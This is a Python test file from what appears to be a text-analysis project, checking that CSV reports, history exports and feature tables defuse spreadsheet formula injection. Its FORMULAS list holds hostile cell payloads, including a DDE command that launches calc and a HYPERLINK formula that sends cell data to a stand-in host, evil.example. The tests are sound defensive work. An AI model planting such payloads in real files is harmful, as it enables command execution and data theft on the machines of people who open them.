"""Words that a spreadsheet would run: no cell of a table that we write begins with a sign that acts.

Excel, LibreOffice and Google Sheets are played here by the hardest reader of all: it splits at every
separator and every line, takes off every quotation mark, and skips every blank.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from contextlib import closing
from dataclasses import replace
from pathlib import Path

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

import analyses
from attack_log import Attack
from trivalent.core.analysis import Source
from trivalent.report import writers as report

pytestmark = pytest.mark.finding(11)
SIGNS = "=+-@＝＋－＠﹦﹢﹣﹫"
BLANKS = " \t\u00a0\u3000\u200b\ufeff\u202e\x00\x1b"
BREAKS = "\n\r\x0b\x0c\x85\u2028\u2029;,|\t"
FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?"&A1)',
    "+1",
    "-1",
    "@SUM(1)",
    "＝1",
    "＋1",
    "－1",
    "＠1",
)
PIECES = st.text(alphabet=SIGNS + BLANKS + BREAKS + "\"'abc1", max_size=30)


def acts(field: str) -> bool:
    """Whether a spreadsheet may run a cell, or a part of it that it takes for one."""
    return any(
        part.lstrip(f'{BLANKS}"').startswith(tuple(SIGNS)) for part in re.split(f"[{BREAKS}]", field)
    )


def hostile_texts() -> list[str]:
    """Formulas behind all that may stand in front of one."""
    starts = ["", "yes;", "yes,", "yes\t", "yes\n", "yes\r\n", "yes|", "\n", "yes\n\n", "yes\u2028"]
    blanks = ["", " ", "\t", "\u00a0", "\u3000", "\ufeff", "\u200b", '"', '" "', "\x00"]
    return [s + b + f for s in starts for b in blanks for f in FORMULAS]


def table(texts: list[str], folder: Path) -> list[dict[str, str]]:
    """Write one row per text, and read it as RFC 4180 says."""
    one = analyses.text()
    changed = replace(one, utterances=tuple(replace(one.utterances[0], text=t) for t in texts))
    path = report.write_csv([changed], folder / "t.csv")
    with path.open(encoding="utf-8", newline="") as stream:
        return list(csv.DictReader(stream))


def test_formulas_in_the_report(tmp_path: Path, attack: Attack) -> None:
    texts = hostile_texts()
    for text, row in zip(texts, table(texts, tmp_path), strict=True):
        attack.attempt(repr(text), withstood=not acts(row["text"]))


@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
def test_lines_that_are_split_elsewhere(separator: str, tmp_path: Path, attack: Attack) -> None:
    """The country's separator instead of ours: parts of a text become cells."""
    table(hostile_texts(), tmp_path)
    with (tmp_path / "t.csv").open(encoding="utf-8", newline="") as stream:
        lines = list(csv.reader(stream, delimiter=separator))
    cells = [cell for line in lines for cell in line if not re.fullmatch(r"-?[\d.e-]*", cell)]
    for cell in cells:
        attack.attempt(repr(cell), withstood=not cell.lstrip(f'{BLANKS}"').startswith(tuple(SIGNS)))


def test_formulas_in_the_exported_history(tmp_path: Path, attack: Attack) -> None:
    pytest.importorskip("sqlalchemy", reason="the extra app is not installed")
    from trivalent.core.settings import Settings
    from trivalent.store import Query, open_store

    store = open_store(Settings(home=tmp_path / "home"))
    with closing(store):
        history = store.history(store.accounts.local_user())
        names = [text for text in FORMULAS if text.isprintable()]
        for name in names:
            one = analyses.text()
            said = tuple(replace(one.utterances[0], text=text) for text in hostile_texts())
            history.add(replace(one, source=Source(name, "text", None), utterances=said), name=name)
        ids = [record.id for record in history.search(Query()).records]
        history.export(ids, tmp_path / "all.zip")
    with zipfile.ZipFile(tmp_path / "all.zip") as archive:
        text = archive.read("analyses.csv").decode("utf-8")
    for row in csv.DictReader(io.StringIO(text, newline="")):
        for cell in (row["source"], row["text"]):
            attack.attempt(repr(cell), withstood=not acts(cell))


def test_formulas_in_tables_of_data(tmp_path: Path, attack: Attack) -> None:
    """Names of features and of samples come from the files of others."""
    from trivalent.core.types import FeatureTable, Status
    from trivalent.features.tables import write_table

    columns = tuple(f"{formula}{i}" for i, formula in enumerate(FORMULAS))
    values = np.full((2, len(columns)), -0.5)
    write_table(FeatureTable("x", "1", columns, np.zeros(2), values, Status.OK), tmp_path / "t.csv")
    with (tmp_path / "t.csv").open(encoding="utf-8", newline="") as stream:
        header, first, _ = list(csv.reader(stream))
    for cell in header:
        attack.attempt(repr(cell), withstood=not acts(cell))
    attack.attempt("numbers stay numbers", withstood=set(first[1:]) == {"-0.5"})


@given(PIECES)
def test_any_text_is_disarmed_and_nothing_is_lost(text: str) -> None:
    from trivalent.core.spreadsheet import guarded

    cell = guarded(text)
    assert not acts(cell)
    assert cell == text or acts(text) or "'" in text
    # the only change is apostrophes, one at a place
    assert cell.replace("'", "") == text.replace("'", "")
    assert unguarded(cell) == text


def unguarded(cell: str) -> str:
    """Undo the guard: the apostrophe that stands before a sign, at the start and after every break."""
    passed = f"[{BLANKS}\"']*+"
    at_start = rf"^'(?=[{BLANKS}{BREAKS}\"']*+[{re.escape(SIGNS)}])"
    return re.sub(rf"{at_start}|(?<=[{BREAKS}])'(?={passed}[{re.escape(SIGNS)}])", "", cell)
